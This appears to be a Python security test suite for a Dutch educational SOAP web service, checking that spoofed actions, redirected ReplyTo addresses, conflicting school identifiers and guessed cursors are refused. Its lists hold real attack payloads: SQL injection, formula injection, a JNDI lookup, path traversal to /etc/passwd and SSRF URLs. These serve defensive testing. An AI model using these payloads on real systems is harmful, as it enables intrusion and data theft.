"""What a message says of itself, in more than one place (S1 to S9)."""
import re
import secrets

from frame import FULL, attack, get, post
from https import PATH, PATHS
from letters import text
from soap import (
    ANONYMOUS, GATEWAY, SCHOOL_A, SCHOOL_B, SOAP, Message, action_of, assert_answered, block, elements, epr, hello, new_uuid, wsa,
)
from talk import seal
from test_addressing import BAD_OINS
from test_envelope import SOAP12
from timing import assert_alike

OPERATIONS = ("testen_verbinding", "opvragen_overeenkomst", "aanleveren_studentgegevens", "intrekken_studentgegevens", "opvragen_aanleverstatus",
              "opvragen_vragenlijsten", "opvragen_resultaten", "opvragen_resultatenbestand")


@attack("S1", answer="DK0003", ms=2)
def test_s1_soap_action_reads_and_the_body_takes_away(field):
    for said in (*OPERATIONS[:3], *OPERATIONS[4:], "x", ""):
        yield post(Message("intrekken_studentgegevens", elements(bpvoKenmerk="x")), soap_action=f'"{action_of(said)}"')
    yield post(Message("intrekken_studentgegevens", elements(bpvoKenmerk="x")), soap_action=False)


@attack("S2", answer="DK0011", ms=2)
def test_s2_action_reads_and_the_body_takes_away(field):
    for said in OPERATIONS:
        for done in ("intrekken_studentgegevens", "aanleveren_studentgegevens"):
            if said != done:
                yield Message(done, elements(bpvoKenmerk="x")).but(Action=wsa("Action", action_of(said)))


@attack("S2", answer="DK0011", ms=12, profile="S")
def test_s2_also_when_it_is_signed(field):
    yield seal(field.world, Message("intrekken_studentgegevens", elements(bpvoKenmerk="x")).but(Action=wsa("Action", action_of("testen_verbinding"))))


ELSEWHERE = ["http://@bait@/x", "https://@bait@/x", "ftp://@bait@/x", "ldap://@bait@/x", "gopher://@bait@/_x", "http://169.254.169.254/latest/meta-data/",
             "http://[::1]/", "file:///etc/passwd", "jar:http://@bait@!/", "\\\\@bait@\\x", "http://@bait@/x?oin=" + SCHOOL_A]


@attack("S3", answer="DK0011", ms=2)
def test_s3_answers_and_faults_to_elsewhere(field):
    for address in ELSEWHERE:
        for name in ("ReplyTo", "FaultTo"):
            yield hello().but(**{name: epr(name, address.replace("@bait@", field.bait.place))})


@attack("S3", answer=("DK0005", "DK0006"), ms=2)
def test_s3_also_when_there_is_another_fault(field):
    for address in ELSEWHERE:
        elsewhere = epr("FaultTo", address.replace("@bait@", field.bait.place))
        yield hello().but(FaultTo=elsewhere, To=None)
        yield hello().but(FaultTo=elsewhere, Action=None)


@attack("S4", answer=("EK0021", "EK0022"), ms=2)
def test_s4_an_oin_in_every_spelling(field):
    for value in BAD_OINS.values():
        yield field.world.push().but(From=epr("From", value))
        yield field.world.push().but(To=wsa("To", value))


@attack("S4", answer=("BPV0001", "BPV0002", "DK0002", "404"), ms=4)
def test_s4_another_oin_in_another_place(field):
    """Connection, From, Body and path each say a school: From counts, the others may not differ, and the path may say none."""
    world, ident = field.world, new_uuid()
    yield Message("opvragen_resultaten", ident=ident, block=block(ident, sender=SCHOOL_B))
    yield Message("opvragen_resultaten", ident=ident, block=block(ident, receiver=SCHOOL_B))
    yield world.push().but(From=epr("From", f"{ANONYMOUS}?oin={SCHOOL_B}"))
    yield post(world.push(), path=f"{PATH}?oin={SCHOOL_B}")
    yield post(world.push(), path=f"{PATH}?oin={SCHOOL_A}")
    yield post(world.push(SCHOOL_B), identity="schoolA")


@attack("S5", answer="MustUnderstand", ms=2)
def test_s5_must_understand(field):
    for header in ("<x xmlns='urn:x' soapenv:mustUnderstand='1'/>", "<wsa:x soapenv:mustUnderstand='1' xmlns:wsa='urn:x'/>",
                   "<x xmlns='urn:x' soapenv:mustUnderstand='1' soapenv:actor='http://schemas.xmlsoap.org/soap/actor/next'/>"):
        yield field.world.push().but(Extra=header)


@attack("S6", answer="DK0001", ms=1)
def test_s6_soap_1_2_and_mixtures(field):
    yield text((SOAP, SOAP12)).encode()
    yield text(("<soapenv:Header>", f'<b:Header xmlns:b="{SOAP12}">'), ("</soapenv:Header>", "</b:Header>")).encode()
    yield text(("<soapenv:Body>", f'<b:Body xmlns:b="{SOAP12}">'), ("</soapenv:Body>", "</b:Body>")).encode()
    yield text((f'xmlns:soapenv="{SOAP}"', f'xmlns:soapenv="{SOAP12}" xmlns:b="{SOAP}"')).encode()


TARGETS = ["?xsd=../../etc/passwd", "?xsd=..%2f..%2fetc%2fpasswd", "?xsd=SBB_BPVMonitor_V1.xsd%00", "?xsd=", "?wsdl=1", "?wsdl&x=y", "?mex", "?disco", "?singleWsdl",
           "?op=x", "/mex", "/services", "/axis2/services/", "?x", "/../../../etc/passwd", "/.git/config", "/%2e%2e/%2e%2e/etc/passwd"]


@attack("S7", answer=("404", "405", "400"), ms=2, lines="rule=")
def test_s7_a_search_for_descriptions(field):
    yield from (get(PATH + target) for target in TARGETS)


@attack("S7", answer=("DK0011", "DK0006", "DK0004"), ms=2)
def test_s7_a_question_for_metadata(field):
    for action in ("http://schemas.xmlsoap.org/ws/2004/09/transfer/Get", "http://schemas.xmlsoap.org/ws/2004/09/mex/GetMetadata/Request"):
        yield post(hello(body='<m:GetMetadata xmlns:m="http://schemas.xmlsoap.org/ws/2004/09/mex"/>').but(Action=wsa("Action", action)), soap_action='""')


HOSTILE = ["'; drop table bpv.respons; --", "' or '1'='1", "\\'; select pg_sleep(9)--", "$$;select 1;$$", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1", "\t=1",
           "x\n2026-01-01T00:00:00Z info exchange id=vals", "x\r\nSet-Cookie: y", "\x7f\u009b31m\u202e", "&lt;/bpv:roepnaam&gt;&lt;x/&gt;", "]]&gt;&lt;!--", "%s%n%x", "${jndi:ldap://@bait@/x}",
           "{{7*7}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "../../../../etc/passwd", "A" * 60_000]
FIELDS = ("bpvoKenmerk", "onderwijsaanbiedercode", "onderwijslocatiecode", "opleidingscode", "leerbedrijfId", "geplandeEinddatum", "emailadres", "roepnaam", "taal", "leerweg")


@attack("S8", answer=("answered", "DK0004", *(f"BPV01{n:02}" for n in range(1, 17))), ms=6, lines="outcome=", leaves=("claims",))
def test_s8_hostile_text_in_every_field(field):
    """A trial: what it would do is told, and nothing of it is kept."""
    for value in HOSTILE:
        for name in FIELDS:
            yield field.world.push_many([{name: value.replace("@bait@", field.bait.place)}], proefaanlevering="true")


@attack("S8", answer=("answered", "EK0023", "DK0011", "EK0020", "EK0021", "EK0022", "DK0003", "DK0004", "DK0006"), ms=4, lines="outcome=", leaves=("claims",))
def test_s8_hostile_text_in_every_header(field):
    for value in HOSTILE:
        value = value.replace("@bait@", field.bait.place)[:900]
        yield hello().but(MessageID=wsa("MessageID", f"{value}@{new_uuid()}@x"))
        yield hello().but(Action=wsa("Action", value))
        yield hello().but(From=epr("From", f"{ANONYMOUS}?x={value}&amp;oin={SCHOOL_A}"))
        yield hello().but(To=wsa("To", f"{ANONYMOUS}?x={value}&amp;oin={GATEWAY}"))
        yield hello().but(RelatesTo=wsa("RelatesTo", value))


def pull(cursor, school=SCHOOL_A):
    return Message("opvragen_resultaten", elements(cursor=cursor), school=school)


def cursor_of(world, identity, school):
    answer = assert_answered(world.call(Message("opvragen_resultaten", elements(paginagrootte=1), school=school), identity))
    return answer.value("resultaten/cursor")


@attack("S9", answer="BPV0201", ms=4, lines="foutcodes=BPV0201", full=10_000, leaves=("claims", "pulls"))
def test_s9_cursors_that_are_guessed(field):
    own = cursor_of(field.world, "saas", SCHOOL_A)
    for _ in range(200 if FULL else 20):
        at = secrets.randbelow(len(own))
        yield pull(own[:at] + secrets.choice([c for c in "ABCabc0123-_" if c != own[at]]) + own[at + 1:])
        yield pull(secrets.token_urlsafe(len(own) * 3 // 4)[:len(own)])


def test_s9_another_schools_cursor_looks_like_none_and_takes_as_long(field):
    world = field.world
    another = cursor_of(world, "schoolB", SCHOOL_B)
    assert_alike(field, {
        "another's": lambda: world.post(pull(another)),
        "nobody's": lambda: world.post(pull(secrets.token_urlsafe(len(another))[:len(another)])),
    }, 2000 if FULL else 60, told={"BPV0201"})
    assert any(re.search(r"guessing .*what=\"?cursor", line) for line in world.log()), "nobody was alarmed"
